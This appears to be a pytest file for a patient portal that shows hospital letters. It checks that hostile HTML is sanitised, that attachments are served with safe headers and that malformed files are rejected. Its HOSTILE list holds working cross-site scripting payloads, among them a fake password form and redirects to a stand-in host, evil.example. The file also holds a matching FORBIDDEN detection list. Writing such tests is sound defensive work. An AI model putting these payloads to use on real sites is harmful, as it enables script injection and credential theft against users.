"""What a hospital or somebody in its name might send: nothing of it runs, in any form of it."""

import base64
from dataclasses import replace

import pytest

from fhir.validation import Malformed
from portal.letters import files, markup, pictures
from portal.letters.files import Fault, Unreadable
from portal.letters.letter import letter_of
from tests.portal.letters.pieces import (
    a_composition,
    a_jpeg,
    a_letter,
    a_png,
    a_section,
    attached,
    sha1,
)
from tests.portal.letters.test_letter_page import address, page

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<form action='//evil.example'><input name=password><button>Sign in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'><style>@import '//evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "<p id=maincontent class=nhsuk-button onclick=alert(1)>x</p>",
    "<!-- <script> --><script>alert(1)</script>",
    "<td colspan=999999 rowspan=65534 background='//evil.example'>x</td>",
]
FORBIDDEN = (
    "alert(1)",
    "evil.example",
    "onerror",
    "onclick",
    "<img",
    "<svg",
    "<form",
    "<iframe",
    "<input",
    "javascript:",
    "style=",
    "<base",
    "<link",
    "999999",
)


@pytest.fixture
def store_letter(hospital, amina_yusuf):
    """Give what stores a letter of Amina's that holds these attachments."""
    return lambda *attachments: hospital.create(a_letter(amina_yusuf, *attachments))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_active_is_left_of_hostile_markup(hostile):
    cleaned = markup.of_html(f"<p>Before</p>{hostile}<p>After</p>")

    assert "<p>Before</p>" in cleaned
    assert [mark for mark in FORBIDDEN if mark in cleaned] == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_form_of_a_hostile_letter_holds_anything_active(
    her_browser, hospital, amina_yusuf, hostile
):
    letter = hospital.create(
        a_letter(amina_yusuf, attached(f"<p>Dear</p>{hostile}", title=hostile), description=hostile)
    )

    shown = page(her_browser, letter).partition('class="db-letter"')[2].partition("</article>")[0]
    saved = her_browser.get(address(letter, "web-page")).content.decode()
    saved = saved.partition("<main>")[2].partition("</h1>")[2]

    assert "<p>Dear</p>" in shown
    assert [mark for mark in FORBIDDEN if mark in shown + saved] == []


def test_markup_in_words_about_a_letter_is_words(her_browser, hospital, amina_yusuf):
    nasty = "<b>x</b><script>y</script>"
    pdf = attached(b"%PDF-1.7", "application/pdf", title=nasty)
    letter = hospital.create(
        a_letter(amina_yusuf, attached("Hello", "text/plain"), pdf,
                 description=nasty, author=[{"display": nasty}])
    )  # fmt: skip

    for body in (page(her_browser, letter), _saved(her_browser, letter)):
        assert nasty not in body
        assert "&lt;b&gt;x&lt;/b&gt;" in body


def _saved(browser, letter):
    return browser.get(address(letter, "web-page")).content.decode()


def test_a_hostile_section_is_words_and_cleaned(hospital, amina_yusuf):
    section = a_section("<i>x</i>", "<p>Yes</p>")
    section["text"]["div"] += "<script>alert(1)</script>"
    stored = replace(hospital.create(a_letter(amina_yusuf)), resource_type="Composition")
    vars(stored)["json"] = a_composition(amina_yusuf, section)

    (passage,) = letter_of(stored).passages

    assert (passage.heading, passage.body) == ("<i>x</i>", "<p>Yes</p>")


def test_markup_in_a_plain_text_is_words():
    assert markup.of_text("<script>x</script>\n\n# <b>") == (
        "<p>&lt;script&gt;x&lt;/script&gt;</p><h2>&lt;b&gt;</h2>"
    )


@pytest.mark.parametrize(
    ("kind", "content", "served"),
    [
        ("application/pdf", b"%PDF-1.7\n<script>alert(1)</script>", "application/pdf"),
        ("application/x-pdf", b"%PDF-1.7 PK\x03\x04", "application/pdf"),
        ("image/png", a_png() + b"<script>", "image/png"),
        ("image/jpg; x=y", a_jpeg(), "image/jpeg"),
    ],
)
def test_a_file_is_saved_as_what_it_was_proved_to_be_and_cannot_run(
    her_browser, store_letter, kind, content, served
):
    letter = store_letter(attached(content, kind))

    response = her_browser.get(address(letter, "file", 0))

    assert response.content == content
    assert response["Content-Type"] == served
    assert response["Content-Disposition"].startswith('attachment; filename="letter.')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    "kind", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"]
)
def test_markup_is_never_served_as_it_came(her_browser, hospital, amina_yusuf, kind):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><p>Hi</p></svg>'
    letter = hospital.create(a_letter(amina_yusuf, attached(svg, kind)))

    assert her_browser.get(address(letter, "file", 0)).status_code == 404
    assert "onload" not in page(her_browser, letter)


@pytest.mark.parametrize(
    ("element", "fault"),
    [
        ({"contentType": "text/plain", "data": "A" * 14_000_000}, Fault.TOO_LARGE),
        ({"contentType": "text/plain", "data": "not base64!"}, Fault.BROKEN),
        ({"contentType": "text/plain", "data": "QUJ"}, Fault.BROKEN),
        ({"contentType": "text/plain", "data": "é"}, Fault.BROKEN),
        (attached(b"\0\0", "text/plain"), Fault.NOT_AS_SAID),
        (attached(b"<p>x</p>%PDF-1.7", "application/pdf"), Fault.NOT_AS_SAID),
        (attached(b"GIF89a", "image/png"), Fault.NOT_AS_SAID),
        (attached(b"x", "text/rtf"), Fault.KIND),
        (attached(b"x", ""), Fault.KIND),
        (attached(b"x", "text/plain", hash=sha1(b"y")), Fault.ALTERED),
    ],
)
def test_a_file_that_is_not_right_is_refused_with_its_fault(element, fault):
    with pytest.raises(Unreadable) as refused:
        files.opened(element)

    assert refused.value.fault == fault


def test_size_and_hash_that_are_right_are_no_fault():
    element = attached(b"x", "text/plain", hash=sha1(b"x"), size=1)

    assert files.opened(element).content == b"x"


def test_line_breaks_within_base64_are_as_the_standard_allows():
    data = base64.b64encode(b"x" * 90).decode()
    element = {"contentType": "text/plain", "data": f"{data[:60]}\r\n {data[60:]}"}

    assert files.opened(element).content == b"x" * 90


def test_a_letter_of_ten_megabytes_is_refused_at_the_door(hospital, amina_yusuf):
    with pytest.raises(Malformed):
        hospital.create(a_letter(amina_yusuf, attached("x" * 10_000_000, "text/plain")))


def test_a_text_too_long_for_a_page_says_so(her_browser, hospital, amina_yusuf):
    letter = hospital.create(a_letter(amina_yusuf, attached("word " * 100_000, "text/plain")))

    assert "It is too large to open here." in page(her_browser, letter)


def test_a_picture_is_measured_without_being_unpacked():
    assert pictures.pixels(a_png(30_000, 20_000)) == 600_000_000
    assert pictures.pixels(a_jpeg(640, 480)) == 307_200
    assert pictures.pixels(b"\xff\xd8\xff" + b"\xff" * 1000) is None
    assert pictures.pixels(b"\xff\xd8\xff\xe0\x00\x00" * 1000) is None
